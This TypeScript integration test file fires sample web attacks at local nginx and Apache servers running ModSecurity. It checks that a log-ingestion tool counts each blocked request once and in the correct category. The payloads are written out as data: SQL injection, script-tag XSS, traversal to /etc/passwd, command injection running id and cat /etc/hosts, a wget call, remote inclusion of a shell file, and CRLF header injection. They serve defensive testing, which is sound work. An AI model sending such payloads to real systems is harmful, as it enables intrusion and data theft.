/** Real web servers with ModSecurity under attack, followed live: the counts are those of the sent requests. */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type Api, call, type Distribution, login, type Request, sum } from './api.ts';
import { eventually, type Process } from './process.ts';
import { type Installation, Sandbox, type Server } from './sandbox.ts';
import { APACHE, NGINX, startApache, startNginx, startRelay, type WebServer } from './web-server.ts';

/** Requests of each category, and how many; `n` makes them differ. */
const ATTACKS: Record<string, { times: number; request(n: number): Request & { path: string } }> = {
  sqli: { times: 8, request: (n) => ({ path: `/?id=${n}%27%20OR%20%271%27=%271%27--%20-` }) },
  xss: { times: 6, request: (n) => ({ path: `/?q=%3Cscript%3Ealert(${n})%3C/script%3E` }) },
  lfi: { times: 5, request: (n) => ({ path: `/?page=../../../../etc/passwd&n=${n}` }) },
  cmdi: { times: 5, request: (n) => ({ path: `/?x=$(id);%20cat%20/etc/hosts&n=${n}` }) },
  rfi: { times: 4, request: (n) => ({ path: `/?file=http://10.1.2.3/shell.txt&n=${n}` }) },
  robot: { times: 4, request: (n) => ({ path: `/?n=${n}`, headers: { 'User-Agent': 'Nikto/2.1.5' } }) },
  custom: { times: 3, request: (n) => ({ path: `/own-rule?n=${n}` }) },
  illegal: { times: 3, request: (n) => ({ path: `/?n=${n}`, method: 'DELETE' }) },
  vuln: { times: 2, request: (n) => ({ path: `/?n=${n}&x=%0d%0aSet-Cookie:%20a=b` }) },
};
const ATTACK_COUNT = Object.values(ATTACKS).reduce((total, { times }) => total + times, 0);
const REQUEST_COUNT = 100;
const HOSTS = ['shop.example.com', 'www.example.com'];

const sandbox = new Sandbox();
let installation: Installation;
let server: Server;
let projects = 0;
let following: Process[] = [];
let webServer: WebServer | null = null;
let relay: WebServer | null = null;

beforeAll(async () => {
  ({ installation, server } = await sandbox.service());
});

afterEach(async () => {
  await Promise.all([...following.map((process) => process.kill()), webServer?.stop(), relay?.stop()]);
  following = [];
  webServer = null;
  relay = null;
});

afterAll(() => sandbox.clear());

async function addProject(): Promise<Api> {
  const { id } = await sandbox.runJson<{ id: string }>('project', 'add', `project-${++projects}`);
  return login(server.address, { ...installation, project_id: id });
}

function follow({ project }: Api, ...files: string[]): void {
  following.push(sandbox.start(['follow', '--data', sandbox.data, '--project', project, ...files]));
}

/** Sends all requests in mixed order, five at a time. */
async function attack(address: string): Promise<void> {
  const requests = Object.values(ATTACKS).flatMap(({ times, request }) =>
    Array.from({ length: times }, (_, n) => request(n)),
  );
  for (let n = 0; requests.length < REQUEST_COUNT; n++) requests.push({ path: `/?page=${n}` });
  const mixed = requests
    .map((request, i) => ({ request, order: (i * 7_919) % 401 }))
    .sort((a, b) => a.order - b.order);
  for (let start = 0; start < mixed.length; start += 5) {
    await Promise.all(
      mixed.slice(start, start + 5).map(async ({ request: { path, headers, ...rest } }, i) => {
        const host = HOSTS[i % HOSTS.length] ?? '';
        await call(address, path, {
          ...rest,
          headers: { Host: host, 'User-Agent': 'Mozilla/5.0', Accept: '*/*', ...headers },
        });
      }),
    );
  }
}

/** Waits for the requests of `attack`, with `more` attacks, and expects exactly those. */
async function expectSentCounts(api: Api, since: number, more: Distribution = {}): Promise<void> {
  const range = `from=${since}&to=${Date.now() + 60_000}`;
  const requestCount = REQUEST_COUNT + sum(more);
  const attackCount = ATTACK_COUNT + sum(more);
  const distribution = await eventually(async () => {
    const { requests, attacks } = await api.timeline(range);
    if (sum(requests) < requestCount || sum(attacks) < attackCount) return undefined;
    return api.distribution(range);
  }, `${requestCount} requests and ${attackCount} attacks`);
  const { requests, attacks } = await api.timeline(range);
  expect(sum(requests)).toBe(requestCount);
  expect(sum(attacks)).toBe(attackCount);
  const sent: Distribution = Object.fromEntries(
    Object.entries(ATTACKS).map(([name, { times }]) => [name, times + (more[name] ?? 0)]),
  );
  expect(Object.fromEntries(Object.entries(distribution).filter(([, n]) => n > 0))).toEqual(sent);
  expect([...(await api.hostIds()).keys()]).toEqual(HOSTS);
  const ids = [...(await api.hostIds()).values()];
  const ofHosts = await api.timeline(`${range}&hosts=${ids.join('&hosts=')}`);
  expect(ofHosts).toEqual(await api.timeline(range));
}

/** A name so long that ModSecurity 2 and nginx cut the messages about it before they name the rule. */
const PADDED = `/?;cat%20/etc/hosts;echo%20${'A'.repeat(500)};wget%20http://x/${'A'.repeat(500)}=1`;
const BLOCKED_COUNT = 15;

async function sendMany(address: string, path: string): Promise<void> {
  for (let n = 0; n < BLOCKED_COUNT; n += 5) {
    await Promise.all(
      Array.from({ length: 5 }, () =>
        call(address, path, {
          headers: { Host: HOSTS[0] ?? '', 'User-Agent': 'Mozilla/5.0', Accept: '*/*' },
        }),
      ),
    );
  }
}

/** Follows the logs, attacks, and then sends padded attacks: each is one attack, in every log. */
async function expectExactCounts(since: number, address: string, ...logs: string[][]): Promise<void> {
  const apis: Api[] = [];
  for (const files of logs) {
    const api = await addProject();
    apis.push(api);
    follow(api, ...files);
  }
  await attack(address);
  for (const api of apis) await expectSentCounts(api, since);
  await sendMany(address, PADDED);
  for (const api of apis) await expectSentCounts(api, since, { cmdi: BLOCKED_COUNT });
}

/** Paths that nginx logs in lines of more than 2,048 bytes: cut after the ID of the request, and before it. */
const LONG_PATHS = [
  `/?q=%3Cscript%3E&x=${'A'.repeat(1_500)}`,
  `${`/${'A'.repeat(200)}`.repeat(9)}?q=%3Cscript%3E`,
];

/** Follows the logs while they are written, and ingests them in every order, each time into another project: one attack per refused request, in its category. */
async function expectOncePerRequest(since: number, { address, ...logs }: WebServer): Promise<void> {
  const { accessLog, auditLog, errorLog } = logs;
  const [live, followed] = [await addProject(), await addProject()];
  follow(live, errorLog, accessLog, auditLog);
  await attack(address);
  for (const path of LONG_PATHS) await sendMany(address, path);
  follow(followed, accessLog, auditLog, errorLog);
  const sent = LONG_PATHS.length * BLOCKED_COUNT;
  for (const api of [live, followed]) {
    await eventually(async () => {
      const { items } = await api.getJson<{ items: { dropped: Distribution }[] }>('connections');
      return (items[0]?.dropped.same_request ?? 0) >= ATTACK_COUNT + sent || undefined;
    }, 'the error log');
    await expectSentCounts(api, since, { xss: sent });
  }
  const orders = [
    [[accessLog, auditLog, errorLog]],
    [[errorLog, auditLog, accessLog]],
    [[accessLog, auditLog], [errorLog]],
    [[auditLog], [accessLog], [errorLog], [errorLog, auditLog]],
  ];
  for (const runs of orders) {
    const api = await addProject();
    for (const files of runs)
      await sandbox.run(['ingest', '--data', sandbox.data, '--project', api.project, ...files]);
    await expectSentCounts(api, since, { xss: sent });
  }
  // The error log alone may have verdicts only, so the categories depend on it; the number of attacks does not.
  const api = await addProject();
  for (const file of [errorLog, auditLog, accessLog])
    await sandbox.run(['ingest', '--data', sandbox.data, '--project', api.project, file]);
  const { attacks, requests } = await api.timeline(`from=${since}&to=${Date.now() + 60_000}`);
  expect([sum(attacks), sum(requests)]).toEqual([ATTACK_COUNT + sent, REQUEST_COUNT + sent]);
}

describe.skipIf(!NGINX.isInstalled() && process.env.CI !== 'true')(
  `nginx with ModSecurity 3 (needs: ${NGINX.needs})`,
  () => {
    test('access log with JSON audit log, or with error log, followed live: several rules of one request are one attack', async () => {
      const since = Date.now() - 1_000;
      webServer = await startNginx('JSON');
      const { address, accessLog, auditLog, errorLog } = webServer;
      await expectExactCounts(since, address, [accessLog, auditLog], [accessLog, errorLog]);
    });

    test('access log and native audit log, followed live, also with the error log', async () => {
      const since = Date.now() - 1_000;
      webServer = await startNginx('Native');
      const { address, accessLog, auditLog, errorLog } = webServer;
      await expectExactCounts(since, address, [accessLog, auditLog], [accessLog, auditLog, errorLog]);
    });

    test('access log followed live, audit records pushed by ModSecurity', async () => {
      const since = Date.now() - 1_000;
      const api = await addProject();
      await sandbox.runJson('user', 'add', 'nginx', '--role', 'ingest', '--project', api.project);
      const key = await sandbox.runJson<{ access: string; secret: string }>('key', 'add', '--user', 'nginx');
      const authorization = `Basic ${Buffer.from(`${key.access}:${key.secret}`).toString('base64')}`;
      relay = await startRelay(`${api.address}/ingest/v1/${api.project}?source=audit`, authorization);
      webServer = await startNginx('JSON', `${relay.address}/audit`);
      follow(api, webServer.accessLog);
      await attack(webServer.address);
      await expectSentCounts(api, since);
    });

    for (const level of ['info', 'error'] as const) {
      test(`access, audit and error log (level ${level}) in any order: each refused request is one attack`, async () => {
        const since = Date.now() - 1_000;
        webServer = await startNginx('JSON', undefined, level);
        await expectOncePerRequest(since, webServer);
      });
    }

    test('an error log at the default level has every attack', async () => {
      const since = Date.now() - 1_000;
      const api = await addProject();
      webServer = await startNginx('JSON', undefined, 'error');
      follow(api, webServer.errorLog);
      await sendMany(webServer.address, '/?id=1%27%20OR%20%271%27=%271%27--%20-');
      const range = `from=${since}&to=${Date.now() + 60_000}`;
      const distribution = await eventually(async () => {
        const { attacks } = await api.timeline(range);
        return sum(attacks) < BLOCKED_COUNT ? undefined : api.distribution(range);
      }, `${BLOCKED_COUNT} attacks`);
      expect(Object.fromEntries(Object.entries(distribution).filter(([, n]) => n > 0))).toEqual({
        vuln: BLOCKED_COUNT,
      });
    });
  },
);

describe.skipIf(!APACHE.isInstalled() && process.env.CI !== 'true')(
  `Apache with mod_security2 (needs: ${APACHE.needs})`,
  () => {
    test('access log with JSON audit log, or with error log, followed live', async () => {
      const since = Date.now() - 1_000;
      webServer = await startApache('JSON');
      const { address, accessLog, auditLog, errorLog } = webServer;
      await expectExactCounts(since, address, [accessLog, auditLog], [accessLog, errorLog]);
    });

    test('access, audit and error log in any order: each refused request is one attack', async () => {
      const since = Date.now() - 1_000;
      webServer = await startApache('JSON');
      await expectOncePerRequest(since, webServer);
    });

    test('access log and native audit log, followed live, also with the error log', async () => {
      const since = Date.now() - 1_000;
      webServer = await startApache('Native');
      const { address, accessLog, auditLog, errorLog } = webServer;
      await expectExactCounts(since, address, [accessLog, auditLog], [accessLog, auditLog, errorLog]);
    });
  },
);
